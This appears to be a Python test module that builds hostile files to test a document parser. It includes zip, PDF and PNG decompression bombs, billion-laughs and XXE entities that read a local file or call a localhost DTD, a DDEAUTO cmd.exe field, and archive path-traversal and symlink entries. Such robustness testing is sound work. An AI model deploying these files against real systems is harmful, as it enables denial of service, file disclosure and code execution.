"""Files made to do harm: to fill memory or time, to read or write elsewhere, to call out. `CANARY` must never be read."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from itertools import pairwise

from render import docx, html, rtf
from render.base import Gold

CANARY = "金丝雀不得读出"
GOLD = Gold("g01", "霍山县妇联2006年妇女儿童维权工作总结\n全年接待来信来访186件，办结179件。\n一、夯实基础\n"
                   "走访慰问单亲特困母亲120名。\n下一步继续努力。\n")
Made = tuple[str, bytes]
Hostile = Callable[[str, int], Made]


def _zip(members: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return held.getvalue()


def _docx(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A Word document whose members were changed."""
    with zipfile.ZipFile(io.BytesIO(docx.plain(GOLD)[0].data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    return _zip(members)


def zip_bomb(canary: str, port: int) -> Made:
    return "bomb.zip", _zip({f"{at}.txt": bytes(200_000_000) for at in range(2)})


def zip_bomb_nested(canary: str, port: int) -> Made:
    data = _zip({"0.txt": b"186 " * 5_000_000})
    for _ in range(6):
        data = _zip({f"{at}.zip": data for at in range(10)})
    return "nested.zip", data


def gzip_bomb(canary: str, port: int) -> Made:
    return "bomb.tar.gz", gzip.compress(bytes(300_000_000), 1)


def docx_bomb(canary: str, port: int) -> Made:
    def change(members: dict[str, bytes]) -> None:
        members["word/document.xml"] = members["word/document.xml"].replace(b"186", b"186" * 60_000_000, 1)
    return "bomb.docx", _docx(change)


def _entities(declared: str, used: str) -> bytes:
    def change(members: dict[str, bytes]) -> None:
        xml = members["word/document.xml"].decode()
        head, rest = xml.split("?>", 1)
        xml = f"{head}?><!DOCTYPE w [{declared}]>{rest}".replace("186", used, 1)
        members["word/document.xml"] = xml.encode()
    return _docx(change)


def entity_bomb(canary: str, port: int) -> Made:
    names = "abcdefghijklmn"
    declared = '<!ENTITY a "妇妇妇妇妇妇妇妇妇妇">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names))
    return "laughs.docx", _entities(declared, "&n;")


def entity_blowup(canary: str, port: int) -> Made:
    return "blowup.docx", _entities(f'<!ENTITY a "{"妇" * 100_000}">', "&a;" * 5_000)


def external_file(canary: str, port: int) -> Made:
    return "outside.docx", _entities(f'<!ENTITY a SYSTEM "file://{canary}">', "&a;")


def external_net(canary: str, port: int) -> Made:
    return "calls.docx", _entities(f'<!ENTITY % a SYSTEM "http://127.0.0.1:{port}/a.dtd"> %a;', "9")


def macro_and_template(canary: str, port: int) -> Made:
    def change(members: dict[str, bytes]) -> None:
        members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
        members["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="'
            + f"http://127.0.0.1:{port}/x.dotm".encode() + b'" TargetMode="External"/></Relationships>')
        field = '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        members["word/document.xml"] = members["word/document.xml"].replace(b"</w:p>", field.encode() + b"</w:p>", 1)
    return "macro.docm", _docx(change)


def docx_deep(canary: str, port: int) -> Made:
    def change(members: dict[str, bytes]) -> None:
        deep = "<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000
        members["word/document.xml"] = members["word/document.xml"].replace(b"<w:sectPr", deep.encode() + b"<w:sectPr", 1)
    return "deep.docx", _docx(change)


def html_calls(canary: str, port: int) -> Made:
    page = html.plain(GOLD)[0].data.replace(b"<article>", (
        f'<base href="http://127.0.0.1:{port}/"><link rel=stylesheet href="a.css"><script src="a.js"></script><img src="a.gif">'
        f'<iframe src="file://{canary}"></iframe><object data="a.swf"></object><article>').encode())
    doctype = f'<!DOCTYPE html [<!ENTITY x SYSTEM "file://{canary}">]>'.encode()
    return "calls.html", page.replace(b"<!DOCTYPE html>", doctype).replace(b"186", b"&x;186")


def html_one_line(canary: str, port: int) -> Made:
    page = html.plain(GOLD)[0].data.replace(b"\n", b"")
    return "line.html", page.replace(b"</article>", "<p>全年接待来访186件。</p>".encode() * 1_540_000 + b"</article>")


def html_deep(canary: str, port: int) -> Made:
    page = html.plain(GOLD)[0].data
    return "deep.html", page.replace(b"<article>", b"<div><span>" * 100_000)


def html_tables(canary: str, port: int) -> Made:
    cell = '<table><tr><td colspan="999999999" rowspan="999999999">186件</td></tr><tr><td>9</td></tr></table>'
    return "spans.html", html.plain(GOLD)[0].data.replace(b"</article>", (cell + "<table><tr><td>" * 500).encode() + b"</article>")


def rtf_deep(canary: str, port: int) -> Made:
    return "deep.rtf", rtf.plain(GOLD)[0].data.replace(b"\\par", b"{" * 300_000 + b"\\par", 1)


def rtf_lengths(canary: str, port: int) -> Made:
    return "bin.rtf", rtf.plain(GOLD)[0].data.replace(b"\\par", b"\\bin4294967295 \\uc999999999 \\u999999999999? \\'zz\\par", 1)


def _pdf(objects: list[bytes]) -> bytes:
    made, at = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        at.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(at) + 1) + b"".join(b"%010d 00000 n \n" % one for one in at)
    return bytes(made) + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(at) + 1, start)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


CATALOG, PAGES = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " \
    b"/Resources << /XObject << /X 5 0 R >> /Font << /F 6 0 R >> >> >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf_page_loop(canary: str, port: int) -> Made:
    return "loop.pdf", _pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 3 >>", PAGE, _stream(b"BT ET"), b"null", FONT])


def pdf_length_loop(canary: str, port: int) -> Made:
    return "length.pdf", _pdf([CATALOG, PAGES, PAGE, b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream", b"5 0 R", b"6 0 R"])


def pdf_form_loop(canary: str, port: int) -> Made:
    form = _stream(b"/X Do /X Do BT /F 9 Tf (186) Tj ET",
                   b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>")
    return "form.pdf", _pdf([CATALOG, PAGES, PAGE, _stream(b"/X Do"), form, FONT])


def pdf_many_objects(canary: str, port: int) -> Made:
    return "many.pdf", _pdf([CATALOG, PAGES, PAGE, _stream(b"BT /F 9 Tf (186) Tj ET"), b"null", FONT, *[b"<< /A [1 2 3] >>"] * 100_000])


def pdf_many_pages(canary: str, port: int) -> Made:
    kids = b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>"
    return "pages.pdf", _pdf([CATALOG, kids, PAGE, _stream(b"BT /F 9 Tf (186) Tj ET"), b"null", FONT])


def pdf_deep(canary: str, port: int) -> Made:
    deep = b"[" * 200_000 + b"]" * 200_000
    return "deep.pdf", _pdf([CATALOG, PAGES, PAGE, _stream(deep + b" TJ"), deep, FONT])


def pdf_bomb(canary: str, port: int) -> Made:
    packed = zlib.compress(b"BT /F 9 Tf (186) Tj ET\n" + b" " * 300_000_000, 1)
    return "bomb.pdf", _pdf([CATALOG, PAGES, PAGE, _stream(packed, b"/Filter /FlateDecode"), b"null", FONT])


def pdf_glyphs(canary: str, port: int) -> Made:
    shown = b"BT /F 9 Tf " + b"(186186186186186186186186186186) Tj\n" * 20_000 + b"ET"
    return "glyphs.pdf", _pdf([CATALOG, PAGES, PAGE, _stream(shown), b"null", FONT])


def zip_names(canary: str, port: int) -> Made:
    text = GOLD.text.encode()
    names = ("../../escaped.txt", "/tmp/escaped-absolute.txt", "C:\\escaped.txt", "..\\..\\escaped.txt",
             "a/" * 400 + "x.txt", "con.txt", "\u202etxt.exe")
    return "names.zip", _zip({name: text + bytes(at) for at, name in enumerate(names)})


def zip_entries(canary: str, port: int) -> Made:
    return "entries.zip", _zip({f"{at}.txt": b"186" for at in range(70_000)})


def tar_names(canary: str, port: int) -> Made:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        def add(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> None:
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, link
            data = GOLD.text.encode() if kind == tarfile.REGTYPE else b""
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
        add("../../escaped.txt"), add("/tmp/escaped-absolute.txt")
        add("link.txt", tarfile.SYMTYPE, canary), add("hard.txt", tarfile.LNKTYPE, canary)
        add("out", tarfile.SYMTYPE, "/tmp"), add("out/escaped-through.txt")
        add("pipe.txt", tarfile.FIFOTYPE), add("zero.txt", tarfile.CHRTYPE)
    return "names.tar", held.getvalue()


def png_bomb(canary: str, port: int) -> Made:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    size = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    return "bomb.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(bytes(1_000_000))) + chunk(b"IEND", b"")


def tiff_loop(canary: str, port: int) -> Made:
    tags = ((256, 1), (257, 1), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 1), (279, 1))
    entries = b"".join(struct.pack("<HHIHH", tag, 3, 1, value, 0) for tag, value in tags)
    return "loop.tif", b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + struct.pack("<I", 8)


def eml_nested(canary: str, port: int) -> Made:
    body = GOLD.text.encode()
    for at in range(300):
        body = (f'Subject: {at}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b{at}"\r\n\r\n--b{at}\r\n'
                "Content-Type: message/rfc822\r\n\r\n").encode() + body + f"\r\n--b{at}--\r\n".encode()
    return "nested.eml", b"From: a@example.com\r\n" + body


def eml_headers(canary: str, port: int) -> Made:
    odd = b"From: a@example.com\r\nSubject: " + b"=?utf-8?b?" * 50_000 + b"\r\nContent-Type: " + b"multipart/mixed; boundary=" * 2000
    return "headers.eml", odd + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"!" * 5000


QUICK: tuple[Hostile, ...] = (
    entity_bomb, external_file, external_net, macro_and_template, docx_deep, html_calls, html_tables, rtf_lengths, pdf_page_loop,
    pdf_length_loop, pdf_form_loop, zip_names, tar_names, png_bomb, tiff_loop, eml_nested, eml_headers)
HEAVY: tuple[Hostile, ...] = (
    zip_bomb, zip_bomb_nested, gzip_bomb, docx_bomb, entity_blowup, html_one_line, html_deep, rtf_deep, pdf_many_objects, pdf_many_pages,
    pdf_deep, pdf_bomb, pdf_glyphs, zip_entries)
